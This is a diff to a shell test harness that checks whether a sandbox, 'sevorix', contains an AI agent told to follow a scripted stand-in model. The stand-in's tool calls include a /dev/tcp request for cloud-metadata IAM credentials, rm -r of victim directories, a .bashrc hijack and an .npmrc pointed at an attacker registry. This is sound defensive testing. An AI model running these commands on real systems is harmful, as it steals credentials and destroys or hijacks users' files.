@@ -28,9 +28,6 @@ META_ADDR=169.254.169.254:80
 KEY_MARK=SEVORIX-FAKE-KEY-7f3a
 META_MARK=AKIASEVORIXFAKEMETA
 
-# skip TEXT: one skipped test point
-skip() { T_N=$((T_N + 1)); echo "ok $T_N # skip $1"; }
-
 # agent_setup NAME COMMAND PROFILE: the installed CLI (NAME in `make
 # agents`), or skip with the reason `make agents` left; then the user,
 # namespace, home, workspace and servers.
@@ -104,12 +101,6 @@ EOF
 	chown -R $AG_USER: "$AG_HOME" "$WS" "$VICTIM_TMP" && chmod 700 "$AG_HOME"
 }
 
-# ag_wait_ready FILE: until a server printed "ready" (at most 5 s)
-ag_wait_ready() {
-	for _ in $(seq 50); do grep -q ready "$1" 2>/dev/null && return 0; sleep 0.1; done
-	return 1
-}
-
 ag_servers() {
 	printf '#!/bin/sh\ntouch "$HOME/pwned-by-download"\necho pwned\n' >"$SX_TMP/install.sh"
 	printf '{"AccessKeyId": "%s", "SecretAccessKey": "x"}\n' "$META_MARK" >"$SX_TMP/meta.json"
@@ -121,7 +112,7 @@ ag_servers() {
 	ip netns exec $NS python3 "$AG_DIR/hostile.py" $META_ADDR "$SX_TMP/meta.json" \
 		"$SX_TMP/meta.log" >"$SX_TMP/meta.out" 2>&1 &
 	started $!
-	ag_wait_ready "$SX_TMP/evil.out" && ag_wait_ready "$SX_TMP/meta.out"
+	wait_ready "$SX_TMP/evil.out" && wait_ready "$SX_TMP/meta.out"
 }
 
 ag_cleanup() {
@@ -159,7 +150,7 @@ EOF
  {"shell": "exec 3<>/dev/tcp/${META_ADDR%:*}/${META_ADDR#*:} && printf 'GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\\\\r\\\\n\\\\r\\\\n' >&3 && cat <&3"},
  {"shell": "rm -r ~/victim"},
  {"shell": "rm -r $VICTIM_TMP"},
- {"shell": "echo 'echo hijacked' >> ~/.bashrc; echo '[core]' > ~/.gitconfig.new && mv ~/.gitconfig.new ~/.gitconfig; rm ~/.profile; echo registry=http://$EVIL_ADDR/ >> ~/.npmrc"},
+ {"shell": "echo 'echo hijacked' >> ~/.bashrc; echo 'echo hijacked' > ~/.bashrc.new; mv ~/.bashrc.new ~/.bashrc; echo '[core]' > ~/.gitconfig.new && mv ~/.gitconfig.new ~/.gitconfig; rm ~/.profile; echo registry=http://$EVIL_ADDR/ >> ~/.npmrc"},
  {"text": "done"}]
 EOF
 }
@@ -175,7 +166,7 @@ ag_run() {
 		>"$SX_TMP/model.out" 2>&1 &
 	local srv=$!
 	started $srv
-	ag_wait_ready "$SX_TMP/model.out" || { AG_RC=125; return; }
+	wait_ready "$SX_TMP/model.out" || { AG_RC=125; return; }
 	agent_cmd "Follow the instructions of the stand-in model."
 	local env=(PATH="$AGENT_BIN:/usr/local/bin:/usr/bin:/bin" LANG=C.UTF-8 TERM=dumb
 		SHELL=/bin/bash "${AGENT_ENV[@]}")
@@ -184,8 +175,9 @@ ag_run() {
 			--clear-groups env -i "${env[@]}" HOME="$AG_HOME" USER=$AG_USER LOGNAME=$AG_USER \
 			"${AGENT_CMD[@]}") </dev/null >"$SX_TMP/$1-$2.out" 2>&1
 	else
-		(cd "$WS" && timeout 300 nsenter --net=/run/netns/$NS env -i "${env[@]}" "$SEVORIX" run \
-			--user $AG_USER --policy "$SX_TMP/profile.yaml" --events "$SX_TMP/events.jsonl" \
+		(cd "$WS" && timeout 300 nsenter --net=/run/netns/$NS env -i "${env[@]}" \
+			SEVORIX_PROFILE_PATH="$SEVORIX_PROFILE_PATH" "$SEVORIX" run --user $AG_USER \
+			--profile "$SX_TMP/profile.yaml" --events "$SX_TMP/events.jsonl" \
 			-- "${AGENT_CMD[@]}") </dev/null >"$SX_TMP/$1-$2.out" 2>&1
 	fi
 	AG_RC=$?
@@ -224,17 +216,20 @@ ag_harm_checks() {
 		"$mode: the cloud metadata endpoint answers"
 	$no "$(ls "$AG_HOME")" "^victim$" "$mode: rm -r ~/victim deletes it"
 	$no "$(ls -d "$VICTIM_TMP" 2>/dev/null)" "victim" "$mode: rm -r of a directory in /tmp deletes it"
-	local dot want="bashrc gitconfig npmrc profile-gone "
+	local dot want="bashrc bashrc-replaced gitconfig npmrc profile-gone "
 	[ "$mode" = sevorix ] && want=""
 	dot=$( { grep -qs hijacked "$AG_HOME/.bashrc" && echo bashrc
+		grep -qs 'of the test user' "$AG_HOME/.bashrc" || echo bashrc-replaced
 		[ -e "$AG_HOME/.gitconfig" ] && echo gitconfig
 		grep -qs registry "$AG_HOME/.npmrc" && echo npmrc
 		[ -e "$AG_HOME/.profile" ] || echo profile-gone; } | tr '\n' ' ')
-	is "$dot" "$want" "$mode: ~/.bashrc, ~/.gitconfig, ~/.npmrc changed and ~/.profile deleted"
+	is "$dot" "$want" \
+		"$mode: ~/.bashrc appended to and renamed over, ~/.gitconfig and ~/.npmrc created, ~/.profile deleted"
 }
 
 ag_restore_harm() {
-	rm -rf "$AG_HOME/pwned-by-download" "$AG_HOME/.gitconfig" "$AG_HOME/.npmrc" "$AG_HOME/.gitconfig.new"
+	rm -rf "$AG_HOME/pwned-by-download" "$AG_HOME/.gitconfig" "$AG_HOME/.npmrc" \
+		"$AG_HOME/.gitconfig.new" "$AG_HOME/.bashrc.new"
 	mkdir -p "$AG_HOME/victim" "$VICTIM_TMP" && echo keep >"$AG_HOME/victim/data" &&
 		echo keep >"$VICTIM_TMP/data"
 	printf '# ~/.profile of the test user\n' >"$AG_HOME/.profile"
@@ -258,16 +253,11 @@ ag_event_checks() {
 		"sevorix: the metadata request is a connect denial with its rule"
 }
 
-# The sevorix half; skipped, test point by test point, until `sevorix run`
-# has profiles. The stand-in's address is named by a small extension of
-# the profile, so a profile that allowed every destination would fail.
+# The sevorix half. The stand-in's address is named by a small extension
+# of the profile, so a profile that allowed every destination would fail.
 ag_sevorix_half() {
-	local reason=""
-	[ -x "$SEVORIX" ] || reason="no $SEVORIX (run make)"
-	[ -z "$reason" ] && ! "$SEVORIX" run --help 2>&1 | grep -q -- '--profile' &&
-		reason="no --profile support yet"
-	if [ -n "$reason" ]; then
-		for _ in $(seq 18); do skip "$reason"; done
+	if [ ! -x "$SEVORIX" ]; then
+		for _ in $(seq 18); do skip "no $SEVORIX (run make)"; done
 		return
 	fi
 	cat >"$SX_TMP/profile.yaml" <<EOF
